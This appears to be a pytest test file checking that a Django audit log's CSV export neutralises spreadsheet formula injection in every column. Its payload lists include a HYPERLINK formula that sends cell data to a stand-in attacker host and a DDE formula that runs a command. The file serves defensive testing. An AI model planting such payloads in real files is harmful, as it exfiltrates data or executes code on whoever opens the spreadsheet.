"""The auditors' CSV export neutralises spreadsheet formulas in every cell (issue 15, item 3)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from rest_framework.test import APIClient

from audit.models import AuditEntry, AuditEvent
from audit.services import record
from cases.csv_safe import csv_lines, neutralise, restore
from tests.contract import ConformingClient

pytestmark = pytest.mark.django_db

EXPORT = "/api/v1/audit/entries.csv"
# The payloads, and a full-width equals sign (read as a formula by Excel in some locales).
LOGIN_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&C3,"open")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "@SUM(1,2)",
    "-1+1",
    "\uff1d1+1",
]
# Login trims surrounding whitespace from a username; these reach the log by other columns.
PAYLOADS = [*LOGIN_PAYLOADS, "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "  =1+1"]


def exported(client: APIClient, **filters: str) -> list[list[str]]:
    response = client.get(EXPORT, filters)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("username", LOGIN_PAYLOADS)
def test_a_formula_typed_as_a_username_is_exported_as_text(username: str, audrey: Any, client_for: Any) -> None:
    # The log keeps a tried username as typed only when an account has it (an unknown one as a
    # hash, audit.services.tried_username): an account by that name, made on the server's shell.
    get_user_model().objects.create(username=username)  # as typed (create_user would NFKC-normalise)
    attempt = ConformingClient().post(
        "/api/v1/auth/login", {"username": username, "password": "x" * 12, "otp": "123456"}
    )
    assert attempt.status_code in (400, 401)
    assert AuditEntry.objects.filter(event=AuditEvent.LOGIN_FAILED, actor_username=username).exists()

    rows = exported(client_for(audrey), action="login_failed")

    header, cells = rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    actors = [cell["actor"] for cell in cells]
    assert actors == ["'" + username]
    assert [restore(actor) for actor in actors] == [username]
    assert header[:4] == ["id", "timestamp", "actor", "action"]


def test_every_column_is_neutralised(audrey: Any, client_for: Any) -> None:
    # Columns other than the actor: the object id and case number are free text in the entry.
    record(
        event=AuditEvent.DENIED,
        model=AuditEntry,
        object_pk="@SUM(1,2)",
        case_number="\t=1+1",
        actor_username="  =1+1",
    )

    rows = exported(client_for(audrey), action="denied")

    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["actor"], row["object_id"], row["case_number"]) == ("'  =1+1", "'@SUM(1,2)", "'\t=1+1")
    for cell in (c for r in rows for c in r):
        assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}


def test_numbers_and_iso_dates_stay_readable() -> None:
    text = "".join(
        csv_lines(
            ["n", "when", "text number", "none", "quoted"], [[-3, "2026-12-05T00:10:00+01:00", "-3", None, "'=x"]]
        )
    )

    row = list(csv.reader(io.StringIO(text)))[1]

    assert row == ["-3", "2026-12-05T00:10:00+01:00", "'-3", "", "''=x"]
    assert int(row[0]) == -3
    assert [restore(cell) for cell in row] == ["-3", "2026-12-05T00:10:00+01:00", "-3", "", "'=x"]


@pytest.mark.parametrize("text", [*PAYLOADS, "plain", "", "'", "'already quoted", " leading space", "a=b"])
def test_restore_gives_back_what_was_neutralised(text: str) -> None:
    assert restore(str(neutralise(text))) == text
